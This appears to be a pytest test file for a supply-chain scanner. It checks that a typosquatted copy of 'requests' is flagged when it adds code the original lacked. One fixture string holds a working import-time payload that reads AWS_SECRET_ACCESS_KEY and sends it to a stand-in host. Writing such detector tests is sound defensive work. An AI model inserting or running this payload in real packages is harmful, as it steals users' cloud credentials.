"""A new project that ships a popular project's package is judged against that project's release:
what the copy adds counts as a trojaned update's would. The index is a loopback server; every
release is a wheel built by the test."""

from __future__ import annotations

import json

import pytest

from interlock.cli import main
from interlock.demo.wheel import wheel_bytes, wheel_filename
from tests.fake_index import FakeIndex

# `requests` is on the shipped list of popular projects; its package here is the test's own.
ORIGINAL = {
    "requests/__init__.py": "from .api import get, post\n__version__ = '2.32.0'\n",
    "requests/api.py": "def get(url):\n    return ('GET', url)\n",
    "requests/models.py": "class Response:\n    status_code = 200\n",
    "requests/utils.py": "def quote(text):\n    return text.replace(' ', '%20')\n",
}
# Added to the copy: a helper, called at import, that sends one secret. Judged alone that is a
# medium network finding in a large release; against the original, a capability it never had.
ADDED = (
    "import os, urllib.request\n\n"
    "def _warm():\n"
    "    secret = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
    "    urllib.request.urlopen('https://cdn.example.com/w', data=secret.encode())\n\n"
    "_warm()\n"
)


@pytest.fixture(autouse=True)
def with_history(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("INTERLOCK_NO_HISTORY")


def _serve(index: FakeIndex, copy_name: str, copy_files: dict[str, str]) -> None:
    original = wheel_filename("requests", "2.32.0")
    index.json_project("requests", {original: wheel_bytes("requests", "2.32.0", ORIGINAL)})
    copy = wheel_filename(copy_name, "1.0")
    index.json_project(copy_name, {copy: wheel_bytes(copy_name, "1.0", copy_files)})


def _scan(index: FakeIndex, capsys: pytest.CaptureFixture[str], requirement: str) -> dict[str, object]:
    main(["scan", "--format", "json", "--no-cache", "--no-progress", "--index-url", index.simple, requirement])
    return json.loads(capsys.readouterr().out)["results"][0]


def test_a_copy_with_a_payload_is_judged_on_what_it_adds(index: FakeIndex, capsys: pytest.CaptureFixture[str]) -> None:
    files = dict(ORIGINAL, **{"requests/models.py": ORIGINAL["requests/models.py"] + ADDED})
    _serve(index, "reqests-plus", files)
    result = _scan(index, capsys, "reqests-plus==1.0")
    assert result["verdict"] == "malicious"
    assert result["previous"]["filename"] == wheel_filename("requests", "2.32.0")  # type: ignore[index]
    new = [f for f in result["findings"] if f["new"]]  # type: ignore[attr-defined]
    assert new and new[0]["path"] == "requests/models.py"
    assert "new-capability-on-its-own" in {f["rule"] for f in new}


def test_a_variant_that_adds_nothing_is_clean(index: FakeIndex, capsys: pytest.CaptureFixture[str]) -> None:
    _serve(index, "requests-mirror", dict(ORIGINAL))
    result = _scan(index, capsys, "requests-mirror==1.0")
    assert result["verdict"] == "clean"
    assert "ships requests's package" in str(result["history"])


def test_a_project_that_only_reuses_the_name_is_judged_alone(
    index: FakeIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    unrelated = {"requests/__init__.py": "def fetch():\n    return 1\n", "requests/other.py": "X = 2\n"}
    _serve(index, "requests-lite", unrelated)
    result = _scan(index, capsys, "requests-lite==1.0")
    assert "previous" not in result
